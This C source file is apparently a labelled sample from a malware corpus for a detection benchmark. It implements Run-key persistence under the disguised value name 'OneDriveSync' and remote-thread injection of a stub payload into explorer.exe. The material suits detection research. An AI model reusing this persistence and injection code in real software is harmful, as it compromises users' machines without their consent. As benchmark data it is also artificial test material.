// maljan-corpus: finds explorer.exe, injects a payload into it, and keeps a Run key entry.
// behaviour: process-injection persistence
// imports: kernel32.dll!CreateToolhelp32Snapshot kernel32.dll!OpenProcess kernel32.dll!VirtualAllocEx kernel32.dll!WriteProcessMemory kernel32.dll!CreateRemoteThread advapi32.dll!RegCreateKeyExA advapi32.dll!RegSetValueExA
// link: -ladvapi32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <tlhelp32.h>
#include <string.h>

static const unsigned char payload[] = {0x90, 0x90, 0x90, 0x90, 0xC3};

int main(void) {
    char self[MAX_PATH];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    HKEY key;
    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                        NULL, 0, KEY_WRITE, NULL, &key, NULL) == ERROR_SUCCESS) {
        RegSetValueExA(key, "OneDriveSync", 0, REG_SZ, (const BYTE *)self, (DWORD)strlen(self) + 1);
        RegCloseKey(key);
    }
    HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    PROCESSENTRY32 pe = {.dwSize = sizeof pe};
    DWORD pid = 0;
    for (BOOL ok = Process32First(snap, &pe); ok; ok = Process32Next(snap, &pe))
        if (!_stricmp(pe.szExeFile, "explorer.exe")) { pid = pe.th32ProcessID; break; }
    CloseHandle(snap);
    if (!pid) return 1;
    HANDLE proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    LPVOID mem = VirtualAllocEx(proc, NULL, sizeof payload, MEM_COMMIT | MEM_RESERVE,
                                PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(proc, mem, payload, sizeof payload, NULL);
    CreateRemoteThread(proc, NULL, 0, (LPTHREAD_START_ROUTINE)mem, NULL, 0, NULL);
    return 0;
}
